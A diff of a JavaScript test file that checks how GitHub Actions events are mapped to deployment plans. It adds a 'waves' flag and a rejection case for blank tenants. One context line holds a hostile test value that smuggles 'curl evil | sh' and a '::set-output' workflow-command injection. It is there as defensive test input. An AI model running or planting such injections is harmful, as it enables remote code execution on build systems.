@@ -12,17 +12,17 @@ describe('an event that can be planned', () => {
     [
       'push',
       { ref: 'refs/heads/main', before: one, after: two, forced: true, commits: [] },
-      { kind: 'changes', base: one, head: two, start: 'commit' }
+      { kind: 'changes', base: one, head: two, start: 'commit', waves: true }
     ],
     [
       'push',
       { ref: 'refs/heads/new', before: none, after: two, created: true },
-      { kind: 'changes', base: none, head: two, start: 'commit' }
+      { kind: 'changes', base: none, head: two, start: 'commit', waves: true }
     ],
     [
       'pull_request',
       { number: 7, pull_request: { base: { sha: one, ref: 'main' }, head: { sha: two } } },
-      { kind: 'changes', base: one, head: two, start: 'merge-base' }
+      { kind: 'changes', base: one, head: two, start: 'merge-base', waves: false }
     ],
     ['workflow_dispatch', { inputs: null, sender }, { kind: 'asked', tenants: 'all', lanes: 'all' }],
     ['workflow_dispatch', { inputs: { tenant: '', lane: '' } }, { kind: 'asked', tenants: 'all', lanes: 'all' }],
@@ -50,6 +50,11 @@ const hostile = 'x; curl evil | sh\n::set-output name=a::b'
 
 describe('an event that cannot', () => {
   it.each([
+    [
+      'workflow_dispatch',
+      { inputs: { tenant: ' \n ' } },
+      'the event workflow_dispatch has a tenant of nothing but blanks'
+    ],
     ['schedule', {}, 'the event "schedule" does not say what to deploy'],
     ['', {}, 'the event "" does not say what to deploy'],
     ['push', null, 'the event push is nothing that GitHub sends'],
